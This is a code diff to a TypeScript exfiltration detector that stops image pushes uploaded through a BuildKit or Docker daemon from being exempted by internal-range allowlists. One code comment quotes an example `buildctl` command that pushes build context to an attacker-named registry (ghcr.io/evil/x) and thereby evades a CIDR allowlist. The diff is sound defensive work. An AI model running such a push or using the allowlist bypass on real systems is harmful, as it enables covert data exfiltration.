@@ -7,7 +7,7 @@ import { type Alert, SEVERITIES, type Severity } from '../model/alert.js';
 import { rules as defaultRules, type PushFacts, type RuleDefinition, type RuleThresholds } from '../rules/index.js';
 import type { Logger } from '../telemetry/logger.js';
 import { buildAlert, destinationOf, suppressionDestination } from './alert-builder.js';
-import { ALLOWLIST_BYTES_MIN, type CompiledAllowlist, nearlyAllTo } from './allowlist.js';
+import { ALLOWLIST_BYTES_MIN, type CompiledAllowlist, nearlyAllTo, type SentTo } from './allowlist.js';
 import type { ReadBuckets } from './buckets.js';
 import type { CorrelatorConfig } from './config.js';
 import { redact } from './redact.js';
@@ -100,7 +100,8 @@ export function judgeEpisode(ep: PushEpisode, ctx: JudgeContext): Judgement | nu
     image: c.ref.image,
     binary: ep.proc.binary,
     destinationHost:
-      allowlistHost(ep, ctx, sent) ?? (ep.destAddr ? ep.destAddr.replace(/:\d+$/, '').replace(/^\[|\]$/g, '') : null),
+      allowlistHost(ep, ctx, sent) ??
+      (ep.destAddr && !viaBuilder(ep) ? ep.destAddr.replace(/:\d+$/, '').replace(/^\[|\]$/g, '') : null),
     destinationIps: allowlistIps(ep),
     ...sent,
   });
@@ -218,22 +219,48 @@ function ownDests(ep: PushEpisode): DestEntry[] {
   return own.length > 0 ? own : ep.dests;
 }
 
-/** The push's addresses for a CIDR entry without bytes to weigh: not the resolver's (port 53) while others exist. */
+/**
+ * A push a daemon or BuildKit uploads for its client (PushRecognition.viaBuilder): the client's own addresses
+ * are that daemon's or builder's, not the registry's. Found by review: `buildctl --addr tcp://buildkitd:1234
+ * build --output type=image,name=ghcr.io/evil/x,push=true` (also buildx's remote and kubernetes drivers,
+ * `DOCKER_HOST=tcp://…`) sent its context to BuildKit's cluster address, and an entry for an internal
+ * registry's range holding that address (`10.0.0.0/8`) exempted a push to ghcr.io. Its own bytes still
+ * count among what it sent (a credential helper's bulk sent elsewhere), never as sent into a range.
+ */
+function viaBuilder(ep: PushEpisode): boolean {
+  return !ep.byEgress && ep.proc.push?.viaBuilder === true;
+}
+
+/**
+ * The push's addresses for a CIDR entry without bytes to weigh: not the resolver's (port 53) while others
+ * exist; for a client whose daemon or builder uploads, only the host daemon's bridged upload.
+ */
 function allowlistIps(ep: PushEpisode): string[] {
-  const own = ownDests(ep);
+  const own = viaBuilder(ep) ? ep.dests.filter((d) => d.byDaemon) : ownDests(ep);
   const notResolver = own.filter((d) => d.port !== 53);
   return (notResolver.length > 0 ? notResolver : own).map((d) => d.ip);
 }
 
-/** What the push sent to each of its addresses, and in all (the daemon's share only with no own address). */
+/**
+ * What the push sent to each of its addresses, and in all (the daemon's share only with no own address; for
+ * a client whose daemon or builder uploads, both, its own marked toBuilder).
+ */
 interface AllowlistBytes {
-  destinationSent: Array<{ ip: string; bytes: number }>;
+  destinationSent: SentTo[];
   sentBytes: number;
 }
 
 function allowlistBytes(ep: PushEpisode): AllowlistBytes {
+  const sent: SentTo[] = [];
+  if (viaBuilder(ep)) {
+    for (let i = 0; i < ep.dests.length; i++) {
+      const d = ep.dests[i]!;
+      const bytes = ep.destBytes[i] ?? 0;
+      sent.push(d.byDaemon ? { ip: d.ip, bytes } : { ip: d.ip, bytes, toBuilder: true });
+    }
+    return { destinationSent: sent, sentBytes: ep.egressSeen ? ep.egressBytes : 0 };
+  }
   const own = ep.dests.some((d) => !d.byDaemon);
-  const sent: Array<{ ip: string; bytes: number }> = [];
   for (let i = 0; i < ep.dests.length; i++) {
     const d = ep.dests[i]!;
     if (!own || !d.byDaemon) sent.push({ ip: d.ip, bytes: ep.destBytes[i] ?? 0 });
